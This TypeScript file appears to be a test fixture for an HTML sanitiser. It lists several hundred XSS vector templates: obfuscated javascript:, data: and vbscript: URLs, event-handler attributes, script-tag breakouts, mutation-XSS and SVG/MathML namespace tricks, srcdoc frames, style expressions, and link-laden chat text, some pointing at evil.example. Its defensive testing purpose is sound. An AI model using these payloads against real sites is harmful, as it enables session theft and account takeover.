/**
 * The hand-written XSS vectors of issue 7 §8 as templates: `§` stands for the JavaScript a vector runs (filled in by
 * xss-payloads.ts with a call that reports to the test, e.g. `__xss(17)`), `¤` for a hostile URL (a scheme variant
 * of URL_SCHEMES). Classic script tags, event handlers on every common element, URL-bearing attributes, namespace
 * confusion (svg, math, mXSS), srcdoc frames, meta refresh, form actions, styles, template/noscript tricks, base
 * href, object/embed, and chat-style text with links.
 */

/** Hostile URLs: javascript:, data: and vbscript: with case, entity, whitespace, NUL and control-character tricks. */
export const URL_SCHEMES: readonly string[] = [
  'javascript:§', 'JaVaScRiPt:§', 'JAVASCRIPT:§', ' javascript:§', '\tjavascript:§', '\njavascript:§', 'java\tscript:§',
  'java\nscript:§', 'java\rscript:§', 'java\0script:§', '\x01javascript:§', '\x1fjavascript:§', 'javascript\t:§',
  '&#106;avascript:§', '&#x6A;avascript:§', '&#X6a;avascript:§', '&#0000106;avascript:§', 'jav&#x09;ascript:§',
  'jav&#x0A;ascript:§', 'jav&#x0D;ascript:§', 'jav&Tab;ascript:§', 'jav&NewLine;ascript:§', 'javascript&colon;§',
  'javascript&#58;§', 'javascript&#x3a;§', 'javas&#99;ript:§', '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58§',
  '&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a§', 'javascript://%0a§', 'javascript:/*-->*/§',
  'javascript:void(0);§', '%6A%61%76%61%73%63%72%69%70%74:§', 'vbscript:§', 'VBScript:§', 'livescript:§',
  'data:text/html,<script>§</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==',
  'DATA:text/html,<img src=x onerror=§>', 'data:image/svg+xml,<svg onload=§>', 'data:,§', 'data:text/javascript,§',
  'https:javascript:§', '//evil.example/x.js', '\\\\evil.example/x', '/\\evil.example/x', 'http:/evil.example',
  'https://evil.example/"onmouseover="§', 'https://evil.example/\'onmouseover=\'§', 'https://evil.example/><script>§</script>',
];

/** Elements that every event-handler vector is tried on (text, block, form, media, interactive, foreign, custom). */
export const ELEMENTS: readonly string[] = [
  'a', 'abbr', 'address', 'article', 'aside', 'audio', 'b', 'bdo', 'blockquote', 'body', 'br', 'button', 'canvas', 'caption',
  'cite', 'code', 'dd', 'del', 'details', 'dfn', 'dialog', 'div', 'dl', 'em', 'embed', 'fieldset', 'figure', 'font', 'footer',
  'form', 'frameset', 'h1', 'h2', 'h3', 'h4', 'header', 'hr', 'i', 'iframe', 'img', 'input', 'ins', 'kbd', 'keygen', 'label',
  'li', 'link', 'main', 'map', 'mark', 'marquee', 'meter', 'nav', 'object', 'ol', 'output', 'p', 'picture', 'pre', 'progress',
  'q', 's', 'section', 'select', 'small', 'source', 'span', 'strong', 'sub', 'summary', 'sup', 'svg', 'math', 'table', 'td',
  'textarea', 'th', 'time', 'tr', 'track', 'u', 'ul', 'var', 'video', 'wbr', 'x', 'custom-el',
];

/** Handler attributes (with what makes them fire by themselves where possible). */
export const HANDLERS: readonly string[] = [
  'onclick=§', 'onmouseover="§"', "autofocus tabindex=1 onfocus='§'", 'src=x onerror=§', 'onload=§',
  'style="animation-name:spin" onanimationstart=§', 'onpointerenter=§', 'open ontoggle=§', 'onbegin=§', 'onfocusin=§',
];

/** Vectors that carry a URL (`¤`). */
export const URL_VECTORS: readonly string[] = [
  '<a href="¤">link</a>', "<a href='¤'>link</a>", '<a href=¤>link</a>', '<a href="¤" target=_self>self</a>',
  '<a href="https://ok.example/" href="¤">two hrefs</a>', '<a xlink:href="¤">xlink</a>', '<a HREF="¤">upper</a>',
  '<iframe src="¤"></iframe>', '<frame src="¤">', '<object data="¤"></object>', '<embed src="¤">', '<img src="¤">',
  '<form action="¤"><button>go</button></form>', '<button formaction="¤">go</button>', '<input type=image formaction="¤" src=x>',
  '<isindex action="¤" type=image>', '<base href="¤"><a href="/relative">rel</a>', '<meta http-equiv="refresh" content="0;url=¤">',
  '<meta http-equiv="refresh" content="0; URL=\'¤\'">', '<link rel=stylesheet href="¤">', '<link rel=import href="¤">',
  '<area href="¤">', '<table background="¤"><tr><td>t</td></tr></table>', '<svg><a xlink:href="¤"><text x=9 y=9>s</text></a></svg>',
  '<svg><a href="¤"><text x=9 y=9>s</text></a></svg>', '<math href="¤">m</math>', '<math><maction actiontype=statusline xlink:href="¤">m</maction></math>',
  '<svg><animate attributeName=href values="¤"/><a><text x=9 y=9>v</text></a></svg>', '<svg><set attributeName=href to="¤"/></svg>',
  '<svg><use href="¤#x"/></svg>', '<svg><script href="¤"></script></svg>', '<script src="¤"></script>', '<video poster="¤"></video>',
  '<p style="background:url(\'¤\')">bg</p>', '<div style="list-style-image:url(¤)">li</div>', '<blockquote cite="¤">q</blockquote>',
];

/** Classic vectors, one template each. */
export const CLASSIC_VECTORS: readonly string[] = [
  // script tags
  '<script>§</script>', '<SCRIPT>§</SCRIPT>', '<ScRiPt>§</sCrIpT>', '<script type="text/javascript">§</script>',
  '<script type=module>§</script>', '<script/xss>§</script>', '<script\t>§</script>', '<script\n>§</script>', '<script>§',
  '<scr<script>ipt>§</scr</script>ipt>', '<<script>§//<</script>', '</script><script>§</script>', '<script>/*</script><img src=x onerror=§>*/</script>',
  '"><script>§</script>', "'><script>§</script>", '--><script>§</script>', ']]><script>§</script>', '</title><script>§</script>',
  '</textarea><script>§</script>', '</style><script>§</script>', '</noscript><script>§</script>', '<!--<script>§</script>-->',
  '<![CDATA[<script>§</script>]]>', '<?xml version="1.0"?><script>§</script>', '<script>document.write("<img src=x onerror=§>")</script>',
  '<p>ok</p><script>§</script><p>ok</p>', '<script src=data:,§></script>', '<script src="data:text/javascript,§"></script>',
  // broken and nested markup
  '<img src=x onerror=§//', '<img src=x onerror="§"', '<img/src/onerror=§>', '<img src=x onerror=§ ', '<img """><script>§</script>">',
  '<img src="x`" onerror=§>', '<img src=x onerror\t=\t§>', '<img src=x onerror\n=§>', '<img src=x OnErRoR=§>', '<img src=x onerror=&#95;&#95;xss()&#59;§>',
  '<img src=x onerror="&#x5f;&#x5f;x&#x73;s&#40;&#41;;§">', '<img src=x:§ onerror=eval(src.slice(2))>', '<img src=x onerror=eval(atob(\'X194c3MoKQ==\'))>',
  '<p <script>§</script>>', '<<img src=x onerror=§//<', '<a href="https://ok.example/"onclick="§">glued</a>',
  '<a href=\'https://ok.example\' onclick=\'§\'>single</a>', '<p title="a" title="b" onclick=§>dup</p>',
  '<div><p>unbalanced</div></p><img src=x onerror=§>', `${'<span>'.repeat(60)}deep<img src=x onerror=§>`,
  `${'<div>'.repeat(600)}<img src=x onerror=§>`, '<a href="https://ok.example/?q=&quot;><script>§</script>">q</a>',
  // namespace confusion and mutation XSS
  '<svg onload=§>', '<svg/onload=§//', '<svg><script>§</script></svg>', '<svg><script>§</script>', '<svg><style><img src=x onerror=§></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">', '<svg><foreignObject><img src=x onerror=§></foreignObject></svg>',
  '<svg><desc><img src=x onerror=§></desc></svg>', '<svg><title><img src=x onerror=§></title></svg>', '<svg><![CDATA[><img src=x onerror=§>]]></svg>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>', '<svg><set onbegin=§ attributeName=x to=y>', '<svg><image href=x onerror=§ />',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§</handler></svg>', '<svg><discard onbegin=§ />',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=§>', '<math><mi><svg><mtext><style><img src=x onerror=§></style>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>', '<math><style><img src=x onerror=§></style></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=§>"></style></svg></mglyph></h1></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=§>"></noscript>', '<noscript><img src=x onerror=§></noscript>',
  '<noscript><style></noscript><img src=x onerror=§></style></noscript>', '<template><script>§</script></template>', '<template><img src=x onerror=§></template>',
  '<template shadowrootmode=open><img src=x onerror=§></template>', '<div><template shadowrootmode="open"><script>§</script></template></div>',
  '<select><template><style><img src=x onerror=§>', '<select><style></select><img src=x onerror=§></style>', '<xmp><p title="</xmp><img src=x onerror=§>">',
  '<iframe><p title="</iframe><img src=x onerror=§>">', '<noembed><p title="</noembed><img src=x onerror=§>">', '<noframes><p title="</noframes><img src=x onerror=§>">',
  '<title><p title="</title><img src=x onerror=§>">', '<style><p title="</style><img src=x onerror=§>">', '<textarea><p title="</textarea><img src=x onerror=§>">',
  '<plaintext><img src=x onerror=§>', '<!--<img src="--><img src=x onerror=§//">', '<!--><img src=x onerror=§>-->', '<!----!><img src=x onerror=§>',
  '<table><img src=x onerror=§></table>', '<table><tr><td><svg><desc><table><tr><td><img src=x onerror=§>', '<a><table><a></table><img src=x onerror=§>',
  '<p>&lt;img src=x onerror=§&gt;</p>', '&lt;script&gt;§&lt;/script&gt;', '&#60;script&#62;§&#60;/script&#62;', '&#x3C;img src=x onerror=§&#x3E;',
  '\\u003cscript\\u003e§\\u003c/script\\u003e', '%3Cscript%3E§%3C/script%3E', '&LT;script&GT;§&LT;/script&GT;', '\uFF1Cscript\uFF1E§\uFF1C/script\uFF1E',
  // srcdoc frames, meta refresh, base, object/embed, forms
  '<iframe srcdoc="<script>§</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=§&gt;"></iframe>',
  '<iframe srcdoc="&#60;script&#62;parent.§&#60;/script&#62;"></iframe>', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>§</script>"></iframe>',
  '<iframe src="data:text/html,<script>§</script>"></iframe>', '<iframe onload=§></iframe>', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>§</script>">',
  '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
  '<base href="https://evil.example/"><a href="/x">relative</a>', '<base target=_blank><a href="https://ok.example">t</a>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg=="></object>', '<object type="text/html" data="data:text/html,<script>§</script>"></object>',
  '<embed src="data:text/html,<script>§</script>">', '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=§>">', '<applet code="x" onload=§>a</applet>',
  '<form><button formaction=javascript:§>go</button></form>', '<form id=f action=javascript:§></form><button form=f>go</button>', '<form><input type=submit formaction=javascript:§ value=go></form>',
  '<form onsubmit=§><input type=submit></form>', '<input onfocus=§ autofocus>', '<input type=image src=x onerror=§>', '<keygen autofocus onfocus=§>',
  '<textarea autofocus onfocus=§>t</textarea>', '<select autofocus onfocus=§><option>o</option></select>', '<details open ontoggle=§>d</details>',
  '<video><source onerror=§></video>', '<audio src=x onerror=§>', '<video src=x onerror=§></video>', '<marquee onstart=§>m</marquee>',
  '<body onload=§>', '<body onpageshow=§>', '<frameset onload=§>', '<img src=x onerror=§>', '<IMG SRC=x ONERROR=§>', '<image src=x onerror=§>',
  // styles
  '<style>@import "javascript:§";</style>', '<style>body{background:url("javascript:§")}</style>', '<p style="background:url(javascript:§)">s</p>',
  '<span style="x:expression(§)">e</span>', '<div style="width:expression(§)">w</div>', '<div style="behavior:url(x.htc)">b</div>',
  '<em style="-moz-binding:url(https://evil.example/x.xml#xss)">m</em>', '<STYLE>li {list-style-image: url("javascript:§");}</STYLE><li>x</li>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=§>a</p>', '<div style="position:fixed;inset:0" onmouseover=§>cover</div>',
  '<link rel=stylesheet href="data:text/css,body{background:red}">', '<p style="background:url(&#106;avascript:§)">entity</p>',
  // chat-style text: links mixed with markup
  'See https://ok.example/a for details <script>§</script>', 'https://ok.example/"><img src=x onerror=§>', 'https://ok.example/<svg/onload=§>',
  'javascript:§ https://ok.example/', 'Click [here](javascript:§) or https://ok.example', 'https://ok.example/?q=<script>§</script>',
  'HTTPS://OK.EXAMPLE/UPPER and javascript:§', 'https://ok.example/javascript:§', 'https:javascript:§', 'https://javascript:§@evil.example/',
  'http://plain.example/<img src=x onerror=§>', 'data:text/html,<script>§</script> https://ok.example/x.', 'https://ok.example/a).(§)',
  'https://\u202Eelpmaxe.evil/ <b onclick=§>b</b>', 'https://ok.example/\u0000<script>§</script>', 'https://ok.example/&#x3C;script&#x3E;§',
  '<a href="https://ok.example/">https://ok.example/</a><img src=x onerror=§>', 'https://ok.example/`onerror=`§',
  '<a href="http://plain.example/">plain http</a><img src=x onerror=§>', '<a href="HTTPS://OK.EXAMPLE/Case">case</a><svg onload=§>',
];
